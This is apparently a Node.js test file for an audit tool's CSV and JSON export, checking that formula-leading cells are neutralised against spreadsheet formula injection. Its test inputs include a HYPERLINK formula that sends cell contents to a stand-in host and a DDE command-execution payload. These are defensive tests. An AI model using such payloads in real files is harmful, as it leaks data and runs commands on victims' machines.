// The audit's exports are opened in spreadsheets: cells that a spreadsheet would run as a
// formula (OWASP "CSV injection") must come out as inert text. Pure Node, no browser.
import { test } from "node:test";
import assert from "node:assert/strict";
import { neutraliseCell, toExportCsv, neutraliseStrings, splitCsv } from "../src/batch-format.js";

test("a cell starting with = comes out of the CSV export as text, not a formula", () => {
  const reason = '=HYPERLINK("http://example.invalid/?"&A1,"click")';
  const csv = toExportCsv([["row", "falseAlarmReason"], [1, reason]]);
  const cells = splitCsv(csv).map((r) => r.cells);
  assert.deepEqual(cells[0], ["row", "falseAlarmReason"]);
  assert.equal(cells[1][1], `'${reason}`, "the apostrophe makes a spreadsheet read it as text");
  assert.ok(!cells[1][1].startsWith("="));
});

test("every formula-leading character is neutralised; ordinary text and numbers are untouched", () => {
  for (const s of ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-cmd|' /C calc'!A0"]) {
    assert.equal(neutraliseCell(s), `'${s}`, JSON.stringify(s));
  }
  for (const s of ["units/over-billed", "CMS Pub. 100-04, ch. 5, §20.2", "", " =1 (leading space)", "28.51", "-12.50", "+3", "42"]) {
    assert.equal(neutraliseCell(s), s, JSON.stringify(s));
  }
  assert.equal(neutraliseCell(null), "");
  assert.equal(neutraliseCell(true), "true");
});

test("the JSON export neutralises strings at any depth and keeps numbers, booleans and null", () => {
  const doc = { notes: [{ row: 1, noteId: "=cmd", findings: [{ falseAlarm: { reason: "@evil" }, amountAtRisk: "-5.00" }], ready: false, x: null }] };
  assert.deepEqual(neutraliseStrings(doc), {
    notes: [{ row: 1, noteId: "'=cmd", findings: [{ falseAlarm: { reason: "'@evil" }, amountAtRisk: "-5.00" }], ready: false, x: null }],
  });
});
